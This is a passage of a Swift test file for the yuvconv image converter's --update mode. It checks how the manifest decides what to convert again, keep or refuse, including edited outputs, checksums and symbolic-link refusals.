import Foundation
import TestSupport
import XCTest
import YUVCore

/// `--update` and its manifest, through the binary: what is converted again and why, what is kept, and that a
/// run that keeps everything reports everything, with the same totals.
final class UpdateTests: CLITestCase {
    /// in/a.png, in/b.jpg (4:4:4), in/c.png (16-bit grey), in/d.png (damaged: fails every time).
    func makeInputs() throws {
        for (name, target) in [("pngsuite/basn2c08.png", "in/a.png"), ("photos/rocket.jpg", "in/b.jpg"),
                               ("pngsuite/basn0g16.png", "in/c.png"), ("pngsuite/xcsn0g01.png", "in/d.png")] {
            let dst = work.appendingPathComponent(target)
            try FileManager.default.createDirectory(at: dst.deletingLastPathComponent(), withIntermediateDirectories: true)
            try FileManager.default.copyItem(atPath: fixture(name), toPath: dst.path)
        }
    }

    let outputs = ["a.nv12", "b.nv12", "c.nv12"]

    /// `convert in/ -o out/ --update` with `extra`, its report as JSON lines: the image lines by file, and
    /// the totals line.
    func update(_ extra: [String] = [], file: StaticString = #filePath, line: UInt = #line) throws
        -> (result: Result, images: [String: [String: Any]], totals: [String: Any]) {
        let r = try run(["convert", "in/", "-o", "out/", "--update", "--report", "json", "-j", "2"] + extra)
        XCTAssertEqual(r.status, 1, "in/d.png fails: \(r.stderr)", file: file, line: line)
        let lines = try String(decoding: r.stdout, as: UTF8.self).split(separator: "\n").map {
            try XCTUnwrap(JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])
        }
        let images = lines.filter { $0["type"] as? String == "image" }
        XCTAssertEqual(images.count, 4, "every input reported", file: file, line: line)
        return (r, Dictionary(uniqueKeysWithValues: images.map { ($0["file"] as! String, $0) }), try XCTUnwrap(lines.last))
    }

    func summary(_ r: Result, converted: Int, skipped: Int, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertTrue(r.stderr.contains("yuvconv: \(converted) converted, \(skipped) kept (up to date), 1 failed"),
                      r.stderr, file: file, line: line)
    }

    func modified(_ name: String) throws -> Date {
        try XCTUnwrap(FileManager.default.attributesOfItem(atPath: work.appendingPathComponent(name).path)[.modificationDate] as? Date)
    }

    func contents(_ name: String) throws -> Data { try Data(contentsOf: work.appendingPathComponent(name)) }

    /// Edits out/.yuvconv-manifest as a hand would: per output name, fields set by the column names of the heading
    /// the manifest carries ("# output<TAB>input…").
    /// With `checksum` the edited lines get their `line_crc32` anew, as someone who knows the format would write
    /// them (the checks behind it are then what stands); without it, as an edit that does not.
    func editManifest(_ edits: [String: [String: String]], checksum: Bool = true) throws {
        let path = work.appendingPathComponent("out/.yuvconv-manifest")
        let lines = String(decoding: try Data(contentsOf: path), as: UTF8.self).split(separator: "\n", omittingEmptySubsequences: false)
        let heading = try XCTUnwrap(lines.first { $0.hasPrefix("# ") }).dropFirst(2).split(separator: "\t").map(String.init)
        let edited = try lines.map { line in
            var f = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
            guard let changes = edits[f.first ?? ""] else { return String(line) }
            for (column, value) in changes { f[try XCTUnwrap(heading.firstIndex(of: column), column)] = value }
            if checksum && f.count == heading.count {
                f[f.count - 1] = Checksum.crc32Hex(Array(f.dropLast().joined(separator: "\t").utf8))
            }
            return f.joined(separator: "\t")
        }.joined(separator: "\n")
        try Data(edited.utf8).write(to: path)
    }

    /// Dictionaries of JSON values as text, for comparing.
    func flat(_ o: [String: Any], without: Set<String> = []) -> [String: String] {
        Dictionary(uniqueKeysWithValues: o.filter { !without.contains($0.key) }.map { ($0.key, "\($0.value)") })
    }

    /// --update merges its manifest through temporary files: a $TMPDIR that takes none is refused before any
    /// work, the dry run saying so too (before: the batch converted, then failed writing the manifest, unsaid
    /// by the dry run), and the manifest's inode column records each output as written.
    func testUnusableTemporaryFolderIsRefusedBeforeTheWork() throws {
        try makeInputs()
        for extra in [["--dry-run"], []] {
            let r = try launch(binary, ["convert", "in/", "-o", "out/", "--update"] + extra,
                               environment: ["TMPDIR": work.appendingPathComponent("missing").path], stdin: .null)
            XCTAssertEqual(r.status, 1, r.stderr)
            XCTAssertTrue(r.stderr.contains("--update merges its manifest through temporary files, and cannot make a temporary file in "),
                          r.stderr)
            XCTAssertTrue(r.stderr.contains("($TMPDIR): No such file or directory; set TMPDIR to a writable folder"), r.stderr)
            XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("out").path))
        }
        XCTAssertEqual(try run(["convert", "in/", "-o", "out/", "--update", "-q"]).status, 1, "in/d.png fails")
        let manifest = String(decoding: try contents("out/.yuvconv-manifest"), as: UTF8.self)
        let heading = try XCTUnwrap(manifest.split(separator: "\n").dropFirst().first).split(separator: "\t")
        let column = try XCTUnwrap(heading.firstIndex(of: "output_inode"))
        for name in outputs {
            let line = try XCTUnwrap(manifest.split(separator: "\n").first { $0.hasPrefix(name + "\t") })
            let inode = try XCTUnwrap(FileManager.default.attributesOfItem(atPath: work.appendingPathComponent("out/" + name).path)[.systemFileNumber] as? Int)
            XCTAssertEqual(line.split(separator: "\t", omittingEmptySubsequences: false)[column], "\(inode)"[...], name)
        }
    }

    /// The manifest's name is its own: an output or a report file named `.yuvconv-manifest` is refused, with
    /// --force too and without --update (a hostile round replaced the manifest with NV12 bytes, after which
    /// every --update run refused the folder).
    func testNoOutputTakesTheManifestsName() throws {
        try makeInputs()
        _ = try update()
        let manifest = try contents("out/.yuvconv-manifest")
        for args in [["convert", "in/a.png", "-o", "out/", "--name", ".yuvconv-manifest", "-f", "nv12", "--force"],
                     ["in/a.png", "-o", "out/.yuvconv-manifest", "-f", "nv12", "--force"],
                     ["in/a.png", "-o", "a.nv12", "--report", "json", "--report-file", "out/.yuvconv-manifest", "--force"]] {
            let r = try run(args)
            XCTAssertNotEqual(r.status, 0, "\(args): \(r.stderr)")
            XCTAssertTrue(r.stderr.contains("out/.yuvconv-manifest: is the name of --update's manifest (.yuvconv-manifest)"),
                          "\(args): \(r.stderr)")
            XCTAssertEqual(try contents("out/.yuvconv-manifest"), manifest, "\(args)")
        }
        // Its lock file's name too (a later --update that cannot lock the folder would take someone's picture
        // for its lock); with --update, before any work (below).
        for args in [["convert", "in/a.png", "-o", "out/", "--name", ".yuvconv-manifest.lock", "-f", "nv12"],
                     ["in/a.png", "-o", "out/.yuvconv-manifest.lock", "-f", "nv12", "--force"]] {
            let r = try run(args)
            XCTAssertNotEqual(r.status, 0, "\(args): \(r.stderr)")
            XCTAssertTrue(r.stderr.contains("out/.yuvconv-manifest.lock: is the name of --update's manifest's lock file (.yuvconv-manifest.lock)"),
                          "\(args): \(r.stderr)")
            XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("out/.yuvconv-manifest.lock").path))
        }
        let updating = try run(["convert", "in/a.png", "-o", "out/", "--name", ".yuvconv-manifest.lock", "-f", "nv12", "--update"])
        XCTAssertEqual(updating.status, 2, updating.stderr)
        XCTAssertTrue(updating.stderr.contains("out/.yuvconv-manifest.lock is the name of --update's manifest's lock file"), updating.stderr)
        // A journal's name: the same refusal, the same status (it was a file failure, exit 1, with --update).
        let journal = try run(["convert", "in/a.png", "-o", "out/", "--update", "--report", "json",
                               "--report-file", "out/.yuvconv-manifest.journal.abcdef"])
        XCTAssertEqual(journal.status, 2, journal.stderr)
        XCTAssertTrue(journal.stderr.contains("out/.yuvconv-manifest.journal.abcdef is the name of --update's manifest's journal"),
                      journal.stderr)
        let reportThere = try run(["in/a.png", "-o", "a2.nv12", "--report", "json", "--report-file", "out/.yuvconv-manifest.lock"])
        XCTAssertNotEqual(reportThere.status, 0, reportThere.stderr)
        XCTAssertTrue(reportThere.stderr.contains("is the name of --update's manifest's lock file"), reportThere.stderr)
        summary(try update().result, converted: 0, skipped: 3)
        // A link at the manifest's name, to a file elsewhere: written through, the link would stay there.
        try FileManager.default.createDirectory(at: work.appendingPathComponent("x"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: work.appendingPathComponent("x/.yuvconv-manifest").path,
                                                   withDestinationPath: "../elsewhere.nv12")
        let linked = try run(["in/a.png", "-o", "x/.yuvconv-manifest", "-f", "nv12", "--force"])
        XCTAssertEqual(linked.status, 1, linked.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("elsewhere.nv12").path))
    }

    /// An output name taken by a folder: refused as a folder, without the `--force` hint (--force cannot
    /// replace a folder either), in the run and in its dry run.
    func testFolderAtAnOutputsNameIsNotOfferedForce() throws {
        try makeInputs()
        try FileManager.default.createDirectory(at: work.appendingPathComponent("out/a.nv12"), withIntermediateDirectories: true)
        // A link to a folder, and a link to itself: --force cannot replace them either.
        try FileManager.default.createDirectory(at: work.appendingPathComponent("elsewhere"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: work.appendingPathComponent("out/b.nv12").path, withDestinationPath: "../elsewhere")
        try FileManager.default.createSymbolicLink(atPath: work.appendingPathComponent("out/c.nv12").path, withDestinationPath: "c.nv12")
        let r = try update().result   // exit 1 (checked there)
        XCTAssertTrue(r.stderr.contains("out/a.nv12: is a directory"), r.stderr)
        XCTAssertTrue(r.stderr.contains("out/b.nv12: is a directory"), r.stderr)
        XCTAssertTrue(r.stderr.contains("out/c.nv12: "), r.stderr)
        XCTAssertFalse(r.stderr.contains("--force"), r.stderr)
        let dry = try run(["convert", "in/", "-o", "out/", "--update", "-n"])
        XCTAssertEqual(dry.status, 1, dry.stderr)
        XCTAssertTrue(String(decoding: dry.stdout, as: UTF8.self).contains("-> out/a.nv12 (nv12): is a directory"),
                      String(decoding: dry.stdout, as: UTF8.self))
        XCTAssertFalse(String(decoding: dry.stdout, as: UTF8.self).contains("--force"))
    }

    /// The same options again: nothing converted, nothing written but the report, every input reported with
    /// the first run's figures (quality included), and the same totals.
    func testRerunConvertsNothingAndReportsEverything() throws {
        try makeInputs()
        let first = try update(["--metrics"])
        summary(first.result, converted: 3, skipped: 0)
        let times = try outputs.map { try modified("out/" + $0) }
        let manifest = try contents("out/.yuvconv-manifest")
        let again = try update(["--metrics"])
        summary(again.result, converted: 0, skipped: 3)
        XCTAssertEqual(try outputs.map { try modified("out/" + $0) }, times)
        XCTAssertEqual(try contents("out/.yuvconv-manifest"), manifest, "unchanged, not rewritten")
        // The same totals; the peak memory is each run's own.
        XCTAssertEqual(flat(again.totals, without: ["peak_rss_bytes"]), flat(first.totals, without: ["peak_rss_bytes"]))
        XCTAssertGreaterThan(again.totals["peak_rss_bytes"] as? Int ?? 0, 0)
        for (file, line) in first.images {
            let kept = try XCTUnwrap(again.images[file])
            XCTAssertEqual(flat(kept, without: ["up_to_date"]), flat(line, without: ["up_to_date"]), file)
            if line["ok"] as? Bool == true {
                XCTAssertEqual(line["up_to_date"] as? Bool, false, file)
                XCTAssertEqual(kept["up_to_date"] as? Bool, true, file)
                XCTAssertNotNil(kept["psnr_y_db"] as? Double, file)
            }
        }
        XCTAssertEqual(again.images["in/d.png"]?["ok"] as? Bool, false)
    }

    /// Every output a run makes is recorded in a line the next run reads, whatever the options: the same run again
    /// converts nothing and refuses nothing. With a target other than BT.709 (`--matrix bt2020`, `--primaries p3`),
    /// an untagged or sRGB source's line — labelled BT.709, its numbers kept — was refused as edited, so its output
    /// went unrecorded and the next run refused it as not yuvconv's (exit 1).
    func testEveryOutputIsRecordedWhateverTheOptions() throws {
        try FileManager.default.createDirectory(at: work.appendingPathComponent("in"), withIntermediateDirectories: true)
        for (from, to) in [("photos/kodim03-crop.png", "untagged.png"), ("photos/rocket.jpg", "adobe.jpg"),
                           ("pngsuite/basn6a08.png", "alpha.png"), ("pngsuite/g25n2c08.png", "gamma.png")] {
            try FileManager.default.copyItem(atPath: fixture(from), toPath: work.appendingPathComponent("in/" + to).path)
        }
        try FileManager.default.copyItem(at: fixturesURL.appendingPathComponent("colour/kodim23-p3.jpg"),
                                         to: work.appendingPathComponent("in/p3.jpg"))
        let sets: [[String]] = [[], ["--matrix", "bt2020"], ["--primaries", "p3"], ["--primaries", "bt2020", "--range", "limited"],
                                ["--matrix", "bt601", "--color-management", "off"], ["--alpha", "keep", "--primaries", "p3"],
                                ["--chroma-filter", "sharp", "--matrix", "bt2020"], ["-f", "p010", "--align", "64", "--primaries", "p3"],
                                ["-f", "png", "--primaries", "p3"], ["-f", "y4m", "--jpeg-path", "rgb", "--matrix", "bt2020"]]
        for (i, options) in sets.enumerated() {
            let args = ["convert", "in/", "-o", "out\(i)/", "--update", "-j", "1"] + options
            let first = try run(args)
            XCTAssertEqual(first.status, 0, "\(options): \(first.stderr)")
            XCTAssertFalse(first.stderr.contains("cannot be read back"), "\(options): \(first.stderr)")
            let again = try run(args)
            XCTAssertEqual(again.status, 0, "\(options): \(again.stderr)")
            XCTAssertTrue(again.stderr.contains("yuvconv: 0 converted, 5 kept (up to date), 0 failed"), "\(options): \(again.stderr)")
        }
    }

    /// An output whose name starts with `#` (`#hash.nv12`, or `#drafts/x.nv12` under a `{dir}` template) is kept
    /// in the manifest: its line started with `#` and was read as a comment, so every run converted it again.
    func testOutputsNamedWithAHashAreRecorded() throws {
        for name in ["in/#hash.png", "in/#drafts/x.png", "in/plain.png"] {
            let dst = work.appendingPathComponent(name)
            try FileManager.default.createDirectory(at: dst.deletingLastPathComponent(), withIntermediateDirectories: true)
            try FileManager.default.copyItem(atPath: fixture("pngsuite/basn2c08.png"), toPath: dst.path)
        }
        let args = ["convert", "in/", "-r", "-o", "out/", "--name", "{dir}/{stem}.{ext}", "--update"]
        let first = try run(args)
        XCTAssertTrue(first.stderr.contains("3 converted, 0 kept"), first.stderr)
        let again = try run(args)
        XCTAssertEqual(again.status, 0, again.stderr)
        XCTAssertTrue(again.stderr.contains("0 converted, 3 kept"), again.stderr)
        let text = String(decoding: try contents("out/.yuvconv-manifest"), as: UTF8.self)
        XCTAssertTrue(text.contains("\n\\#hash.nv12\t"), text)
    }

    /// Options that shape the bytes convert everything again; the same ones once more, nothing.
    func testOtherOptionsConvertAgain() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        let bt709 = try contents("out/b.nv12")
        let bt601 = try update(["--matrix", "bt601"])
        summary(bt601.result, converted: 3, skipped: 0)
        XCTAssertNotEqual(try contents("out/b.nv12"), bt709)
        XCTAssertEqual(bt601.images["in/b.jpg"]?["matrix"] as? String, "bt601")
        summary(try update(["--matrix", "bt601"]).result, converted: 0, skipped: 3)
        // An alias is the same option; an option that only reports or refuses is none.
        summary(try update(["--matrix", "smpte170m", "--max-pixels", "100000000"]).result, converted: 0, skipped: 3)
    }

    /// A touched input with the same content is kept (its new time recorded, so the next run need not hash
    /// it); one with new content is converted again.
    func testTouchedInputIsKeptChangedInputConverted() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        // A whole second: a file system that keeps whole seconds keeps it as it is.
        let later = Date(timeIntervalSince1970: (Date().timeIntervalSince1970 + 3600).rounded(.down))
        for name in ["a.png", "b.jpg", "c.png"] {
            try FileManager.default.setAttributes([.modificationDate: later], ofItemAtPath: work.appendingPathComponent("in/" + name).path)
        }
        summary(try update().result, converted: 0, skipped: 3)
        let recorded = String(decoding: try contents("out/.yuvconv-manifest"), as: UTF8.self).split(separator: "\n")
        let a = try XCTUnwrap(recorded.first { $0.hasPrefix("a.nv12\t") }).split(separator: "\t")
        XCTAssertEqual(Double(a[3]) ?? 0, later.timeIntervalSince1970, accuracy: 1e-3, "input_mtime: \(a)")
        try FileManager.default.removeItem(at: work.appendingPathComponent("in/a.png"))
        try FileManager.default.copyItem(atPath: fixture("pngsuite/basn2c16.png"), toPath: work.appendingPathComponent("in/a.png").path)
        let changed = try update()
        summary(changed.result, converted: 1, skipped: 2)
        XCTAssertEqual(changed.images["in/a.png"]?["up_to_date"] as? Bool, false)
        XCTAssertEqual(changed.images["in/a.png"]?["source_sampling"] as? String, "RGB 16-bit")
    }

    /// An output edited in place, keeping its size, with its time set back is read (its change time differs) and
    /// converted again (before: kept, and the report gave a SHA-256 the file no longer had).
    func testOutputEditedWithItsTimeSetBackIsConvertedAgain() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        // Named moments ago: the change time is not recorded (no run could tell an edit in the same tick from
        // the naming), so the next run reads the output whatever the file system's clock tick.
        let manifest = String(decoding: try contents("out/.yuvconv-manifest"), as: UTF8.self).split(separator: "\n")
        let columns = try XCTUnwrap(manifest.first { $0.hasPrefix("# output\t") }).dropFirst(2).split(separator: "\t")
        let fresh = try XCTUnwrap(manifest.first { $0.hasPrefix("a.nv12\t") }).split(separator: "\t", omittingEmptySubsequences: false)
        let at = try XCTUnwrap(columns.firstIndex(of: "output_ctime"))
        XCTAssertEqual(fresh.count, columns.count)
        XCTAssertEqual(fresh[at], "", "output_ctime")
        let url = work.appendingPathComponent("out/a.nv12")
        let original = try contents("out/a.nv12")
        var before = stat(), after = stat()
        XCTAssertEqual(stat(url.path, &before), 0)
        var edited = original
        edited[100] ^= 0xFF
        let handle = try FileHandle(forWritingTo: url)
        try handle.write(contentsOf: edited)
        try handle.close()
        // The time put back to the nanosecond, as `touch -r` or `cp -p` would.
        var times = [before.st_atim, before.st_mtim]
        XCTAssertEqual(utimensat(AT_FDCWD, url.path, &times, 0), 0)
        XCTAssertEqual(stat(url.path, &after), 0)
        XCTAssertEqual([after.st_mtim.tv_sec, after.st_mtim.tv_nsec, Int(after.st_size), Int(after.st_ino)],
                       [before.st_mtim.tv_sec, before.st_mtim.tv_nsec, Int(before.st_size), Int(before.st_ino)])
        let again = try update()
        summary(again.result, converted: 1, skipped: 2)
        XCTAssertEqual(try contents("out/a.nv12"), original)
        XCTAssertEqual(again.images["in/a.png"]?["up_to_date"] as? Bool, false)
        // A line without the output's change time (one recorded too soon after the output was named to vouch for
        // it, its checksum intact) has its output read once: an edit made before that is found too (before: never
        // read, the wrong SHA-256 reported on every run). (An older version's line, without a checksum either, names
        // older output bytes in its options key: converted again whatever it holds.)
        try editManifest(["a.nv12": ["output_ctime": ""], "b.nv12": ["output_ctime": ""], "c.nv12": ["output_ctime": ""]])
        XCTAssertEqual(stat(url.path, &before), 0)
        let handle2 = try FileHandle(forWritingTo: url)
        try handle2.write(contentsOf: edited)
        try handle2.close()
        times = [before.st_atim, before.st_mtim]
        XCTAssertEqual(utimensat(AT_FDCWD, url.path, &times, 0), 0)
        summary(try update().result, converted: 1, skipped: 2)
        XCTAssertEqual(try contents("out/a.nv12"), original)
    }

    /// An output altered in place (same size) or cut short is converted again, back to its bytes.
    func testAlteredOutputIsConvertedAgain() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        let original = try contents("out/b.nv12"), c = try contents("out/c.nv12")
        let handle = try FileHandle(forWritingTo: work.appendingPathComponent("out/b.nv12"))
        try handle.seek(toOffset: 1000)
        handle.write(Data([original[1000] ^ 0xFF]))
        try handle.close()
        // An editor's write lands at a later time than the conversion's: say so, whatever the clock's tick.
        try FileManager.default.setAttributes([.modificationDate: Date().addingTimeInterval(5)],
                                              ofItemAtPath: work.appendingPathComponent("out/b.nv12").path)
        try c.prefix(100).write(to: work.appendingPathComponent("out/c.nv12"))
        summary(try update().result, converted: 2, skipped: 1)
        XCTAssertEqual(try contents("out/b.nv12"), original)
        XCTAssertEqual(try contents("out/c.nv12"), c)
    }

    /// Without the manifest nothing can be vouched for: everything is converted again, and it is made anew.
    func testWithoutManifestNothingIsOverwrittenWithoutForce() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        try FileManager.default.removeItem(at: work.appendingPathComponent("out/.yuvconv-manifest"))
        // Files at the outputs' names that no manifest records (a run without --update made them, or another
        // program did) are not known to be yuvconv's: kept without --force, each listed as failed (they were
        // replaced).
        let before = try outputs.map { try contents("out/" + $0) }
        let unrecorded = try update().result
        XCTAssertTrue(unrecorded.stderr.contains("yuvconv: 0 converted, 0 kept (up to date), 4 failed"), unrecorded.stderr)
        XCTAssertTrue(unrecorded.stderr.contains("out/a.nv12: is already there and not recorded in the folder's .yuvconv-manifest "
                                                 + "(it may not be yuvconv's), so --update keeps it (use --force to overwrite)"),
                      unrecorded.stderr)
        XCTAssertEqual(try outputs.map { try contents("out/" + $0) }, before)
        let dry = try run(["convert", "in/", "-o", "out/", "--update", "-n"])
        XCTAssertTrue(String(decoding: dry.stdout, as: UTF8.self).contains(
            "refuse in/b.jpg -> out/b.nv12 (nv12): is already there and not recorded in the folder's .yuvconv-manifest"), dry.stderr)
        // With --force they are converted again and recorded.
        summary(try update(["--force"]).result, converted: 3, skipped: 0)
        summary(try update().result, converted: 0, skipped: 3)
        // A link there could lead anywhere: kept without --force, and listed as failed.
        try FileManager.default.removeItem(at: work.appendingPathComponent("out/a.nv12"))
        try Data("keep\n".utf8).write(to: work.appendingPathComponent("elsewhere.txt"))
        try FileManager.default.createSymbolicLink(atPath: work.appendingPathComponent("out/a.nv12").path,
                                                   withDestinationPath: "../elsewhere.txt")
        let kept = try update().result
        XCTAssertTrue(kept.stderr.contains("yuvconv: 0 converted, 2 kept (up to date), 2 failed"), kept.stderr)
        XCTAssertTrue(kept.stderr.contains("out/a.nv12: is a symbolic link; --update writes only plain files of the output folder"),
                      kept.stderr)
        XCTAssertEqual(try contents("elsewhere.txt"), Data("keep\n".utf8))
        try FileManager.default.removeItem(at: work.appendingPathComponent("out/a.nv12"))
        // A link leading nowhere yet, or a folder of the name that is a link: a new output would be made wherever
        // they lead (it was, exit 0). Refused as the link to a file is, nothing made there.
        try FileManager.default.createSymbolicLink(atPath: work.appendingPathComponent("out/a.nv12").path,
                                                   withDestinationPath: "../planted.nv12")
        let dangling = try update().result
        XCTAssertTrue(dangling.stderr.contains("out/a.nv12: is a symbolic link; --update writes only plain files"), dangling.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("planted.nv12").path))
        try FileManager.default.removeItem(at: work.appendingPathComponent("out/a.nv12"))
        try FileManager.default.createDirectory(at: work.appendingPathComponent("away"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: work.appendingPathComponent("out/in").path, withDestinationPath: "../away")
        let linked = try run(["convert", "in", "-o", "out/", "--update", "--name", "{dir}/{stem}.{ext}"])
        XCTAssertEqual(linked.status, 1, linked.stderr)
        XCTAssertTrue(linked.stderr.contains("is reached through a symbolic link below the output folder"), linked.stderr)
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: work.appendingPathComponent("away").path), [])
        try FileManager.default.removeItem(at: work.appendingPathComponent("out/in"))
        summary(try update().result, converted: 1, skipped: 2)
        summary(try update().result, converted: 0, skipped: 3)
        // A file there that is not a manifest is someone's: refused before any work without --force, untouched.
        try Data("not a manifest\n".utf8).write(to: work.appendingPathComponent("out/.yuvconv-manifest"))
        let refused = try run(["convert", "in/", "-o", "out/", "--update"])
        XCTAssertEqual(refused.status, 1, refused.stderr)
        XCTAssertTrue(refused.stderr.contains("out/.yuvconv-manifest: exists and is not a yuvconv manifest"), refused.stderr)
        XCTAssertEqual(try contents("out/.yuvconv-manifest"), Data("not a manifest\n".utf8))
        // With --force: a warning, everything converted again, and the manifest made anew.
        let unread = try update(["--force"])
        summary(unread.result, converted: 3, skipped: 0)
        XCTAssertTrue(unread.result.stderr.contains("yuvconv: warning: out/.yuvconv-manifest: not a yuvconv manifest"), unread.result.stderr)
        XCTAssertTrue(try contents("out/.yuvconv-manifest").starts(with: Data("yuvconv-manifest\t1".utf8)))
    }

    /// A conversion that fails leaves its output and its manifest line as they were: with the input put back, the
    /// next run keeps the output (the line was dropped, and that run refused yuvconv's own file as unrecorded).
    func testAFailedConversionKeepsItsLine() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        let good = try contents("in/a.png"), made = try contents("out/a.nv12")
        try Data(good.prefix(100)).write(to: work.appendingPathComponent("in/a.png"))
        let failing = try update().result
        XCTAssertTrue(failing.stderr.contains("yuvconv: 0 converted, 2 kept (up to date), 2 failed"), failing.stderr)
        XCTAssertEqual(try contents("out/a.nv12"), made)
        try good.write(to: work.appendingPathComponent("in/a.png"))
        let restored = try update().result
        summary(restored, converted: 0, skipped: 3)
        XCTAssertFalse(restored.stderr.contains("not recorded"), restored.stderr)
        // Changed for good: converted again, as yuvconv's (no --force needed).
        try FileManager.default.copyItem(atPath: fixture("pngsuite/basn2c16.png"), toPath: work.appendingPathComponent("b2.png").path)
        try FileManager.default.removeItem(at: work.appendingPathComponent("in/a.png"))
        try FileManager.default.moveItem(at: work.appendingPathComponent("b2.png"), to: work.appendingPathComponent("in/a.png"))
        summary(try update().result, converted: 1, skipped: 2)
    }

    /// Lines that cannot be used stay through a run that does not touch their output (they were dropped, and the
    /// run after refused the output as unrecorded).
    func testUnusableLinesAreKept() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        // A second line for b.nv12; then a run over c.png alone, changed, rewrites the manifest.
        let path = work.appendingPathComponent("out/.yuvconv-manifest")
        let text = String(decoding: try Data(contentsOf: path), as: UTF8.self)
        let bLine = try XCTUnwrap(text.split(separator: "\n").first { $0.hasPrefix("b.nv12\t") })
        try Data((text + bLine + "\n").utf8).write(to: path)
        let r = try run(["convert", "in/c.png", "-o", "out/", "--update", "--matrix", "bt601"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertEqual(String(decoding: try Data(contentsOf: path), as: UTF8.self).components(separatedBy: "\n" + bLine + "\n").count, 2,
                       "both b.nv12 lines kept")
        let next = try run(["convert", "in/", "-o", "out/", "--update", "-n"])
        XCTAssertTrue(String(decoding: next.stdout, as: UTF8.self).contains(
            "replace in/b.jpg -> out/b.nv12 (nv12): its line in the manifest (.yuvconv-manifest) cannot be used"), next.stderr)
    }

    /// A manifest of another version, or one given CR LF line ends, is said as such (it was "not a yuvconv
    /// manifest", as any file), refused without --force and left as it is.
    func testAnotherVersionsManifestIsNamed() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        let path = work.appendingPathComponent("out/.yuvconv-manifest")
        let text = try contents("out/.yuvconv-manifest")
        for (first, says) in [("yuvconv-manifest\t2", "out/.yuvconv-manifest: is a yuvconv manifest of version 2, which this version (1) does not read: "
                                  + "use the yuvconv that wrote it, or --force to replace it and lose its entries"),
                              ("yuvconv-manifest\t1\r", "out/.yuvconv-manifest: is a yuvconv manifest whose lines end in CR LF (converted to "
                                  + "another system's line ends), which no version reads: convert them back (dos2unix), or --force"),
                              ("yuvconv-manifest\t1 ", "out/.yuvconv-manifest: exists and is not a yuvconv manifest (its first line differs)"),
                              ("yuvconv-manifest\t\u{1B}[2J", "out/.yuvconv-manifest: exists and is not a yuvconv manifest (its first line differs)")] {
            let edited = Data((first + "\n").utf8) + text.drop { $0 != 10 }.dropFirst()
            try edited.write(to: path)
            let r = try run(["convert", "in/", "-o", "out/", "--update"])
            XCTAssertEqual(r.status, 1, r.stderr)
            XCTAssertTrue(r.stderr.contains(says), r.stderr)
            XCTAssertEqual(try contents("out/.yuvconv-manifest"), edited)
        }
    }

    /// --dry-run --update: each item's decision and why; nothing written, the manifest included.
    func testDryRunSaysWhyAndWritesNothing() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        try FileManager.default.removeItem(at: work.appendingPathComponent("out/a.nv12"))
        try Data("x".utf8).write(to: work.appendingPathComponent("out/c.nv12"))
        let manifest = try contents("out/.yuvconv-manifest")
        let r = try run(["convert", "in/", "-o", "out/", "--update", "-n"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertEqual(String(decoding: r.stdout, as: UTF8.self), """
            convert in/a.png -> out/a.nv12 (nv12): no output yet
            skip in/b.jpg -> out/b.nv12 (nv12): up to date
            replace in/c.png -> out/c.nv12 (nv12): the output was altered since it was made
            convert in/d.png -> out/d.nv12 (nv12): no output yet

            """)
        XCTAssertTrue(r.stderr.contains("2 to convert, 1 to replace, 1 to keep (up to date), 0 refused"), r.stderr)
        let other = try run(["convert", "in/", "-o", "out/", "--update", "-n", "--range", "limited"])
        XCTAssertTrue(String(decoding: other.stdout, as: UTF8.self).contains("replace in/b.jpg -> out/b.nv12 (nv12): made with other options\n"))
        XCTAssertEqual(try contents("out/.yuvconv-manifest"), manifest)
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: work.appendingPathComponent("out").path).sorted(),
                       [".yuvconv-manifest", "b.nv12", "c.nv12"])
    }

    /// A manifest line whose figures were edited (the output and its hash left alone) is not kept: a raw
    /// output's picture size must give its file's size, and the report's file size is the input's. Both are made
    /// again, and the report shows the real figures.
    func testEditedFiguresAreNotKept() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        try editManifest(["a.nv12": ["width": "4096"], "b.nv12": ["file_bytes": "999999999"]])
        let dry = try run(["convert", "in/", "-o", "out/", "--update", "-n"])
        XCTAssertTrue(String(decoding: dry.stdout, as: UTF8.self).contains("replace in/a.png -> out/a.nv12 (nv12): "), String(decoding: dry.stdout, as: UTF8.self))
        XCTAssertTrue(String(decoding: dry.stdout, as: UTF8.self).contains("replace in/b.jpg -> out/b.nv12 (nv12): "), String(decoding: dry.stdout, as: UTF8.self))
        let (r, images, _) = try update()
        summary(r, converted: 2, skipped: 1)
        XCTAssertEqual(images.values.first { ($0["file"] as? String)?.hasSuffix("a.png") == true }?["width"] as? Int, 32)
    }

    /// A line edited by hand without its checksum is not trusted: its output is converted again and the report
    /// gives the file's own SHA-256. Before, a kept output's `output_sha256` came from the line unread (the file's
    /// size, times and inode as recorded), so an edited hash was reported, run after run, for a file without it.
    func testALineEditedWithoutItsChecksumIsNotTrusted() throws {
        try makeInputs()
        summary(try update().result, converted: 3, skipped: 0)
        let wrong = String(repeating: "0", count: 62) + "ff"
        // The output's change time recorded too, as a run 2 s later would have recorded it: nothing then reads the
        // output to check the line's hash.
        var st = stat()
        XCTAssertEqual(stat(work.appendingPathComponent("out/a.nv12").path, &st), 0)
